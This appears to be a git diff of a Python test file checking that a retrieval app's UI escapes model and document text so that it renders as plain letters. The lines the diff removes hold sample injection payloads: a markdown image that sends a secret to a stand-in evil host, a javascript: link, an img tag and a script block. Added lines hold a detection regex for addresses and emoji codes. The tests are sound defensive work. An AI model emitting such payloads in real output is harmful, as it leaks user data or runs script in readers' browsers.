@@ -1,10 +1,14 @@
 """Whatever a model or a document says is characters on the page, nothing else."""
 
+import re
+from collections.abc import Iterator, Sequence
 from string import punctuation
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 from rag.domain.answers import ShownClaim
 from rag.ui.answers import (
@@ -17,7 +21,10 @@ from rag.ui.answers import (
     number_sources,
     unique_sources,
 )
+from tests.fixtures.hostile_strings import LIVE_STRINGS, live_strings
 from tests.pages.scripted import CONTEXT, QUOTE, citation
+
+PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
 
 
 def unescaped(markdown: str) -> str:
@@ -42,27 +49,41 @@ def test_no_punctuation_stays_alive(text: str) -> None:
     assert [found[index] for index in marks if found[index - 1 : index] != "\\"] == []
 
 
-@pytest.mark.parametrize(
-    "hostile",
-    [
-        "![x](http://evil.example/?q=secret)",
-        "[click](javascript:alert(1))",
-        "<img src=http://evil.example/x.png>",
-        "see https://evil.example/a and www.evil.example",
-        "write to boss@evil.example",
-        "$\\href{http://evil.example}{x}$",
-        ":material/warning: :tada: :red[danger] :streamlit:",
-        "```html\n<script>\n```",
-    ],
-)
-def test_nothing_can_be_found_after_parsing(hostile: str) -> None:
-    shown = escape(hostile).replace("\\", "")
-    assert "://" not in shown
-    assert "www." not in shown
-    assert ":material" not in shown
-    assert ":tada" not in shown
-    assert "@evil" not in shown
-    assert "\n" not in shown
+OUR_OWN = {"strong_open", "strong_close", "bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"}
+PLAIN = OUR_OWN | {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "softbreak", "hardbreak"}
+FOUND_LATER = re.compile(r"\w://|www\.|mailto:\w|xmpp:\w|\w@\w|:[\w+-]+:|:material/|^data:\w", re.IGNORECASE)
+"""What is searched for in plain text after parsing: addresses, emoji and icon codes."""
+
+
+ALIVE = re.compile(r"(?<!\\)(?:\\\\)*[$:<>`&\[]")
+"""A mark that no backslash keeps from being obeyed."""
+
+
+def leaves(tokens: Sequence[Token]) -> Iterator[Token]:
+    for token in tokens:
+        yield from leaves(token.children) if token.children else (token,)
+
+
+def drawings(text: str) -> list[str]:
+    """Every way in which a text from a model or a document comes onto the page."""
+    at = text.index("payload") if "payload" in text else 0
+    claims = [ShownClaim(text=lead + text, source_ids=[], lead=lead) for lead in (" ", "\n- ")]
+    marked = highlighted(text, [(at, at + 3)]).replace(":green-background[", " ")  # an element of its own
+    return [escape(text), answer_markdown(claims[:1]), answer_markdown(claims), highlighted(text, []), marked]
+
+
+def test_there_are_more_than_sixty_of_many_kinds() -> None:
+    assert len(live_strings()) >= 60
+    assert len(LIVE_STRINGS) >= 10
+
+
+@pytest.mark.parametrize(("kind", "hostile"), live_strings())
+def test_a_live_string_is_drawn_as_letters(kind: str, hostile: str) -> None:
+    for drawn in drawings(hostile):
+        tokens = list(leaves(PARSER.parse(drawn)))
+        assert {token.type for token in tokens} <= PLAIN, (kind, drawn)
+        assert not FOUND_LATER.search(" ".join(token.content for token in tokens)), (kind, drawn)
+        assert not ALIVE.search(drawn), (kind, drawn)
 
 
 def test_invisible_and_direction_changing_characters_are_taken_out() -> None:
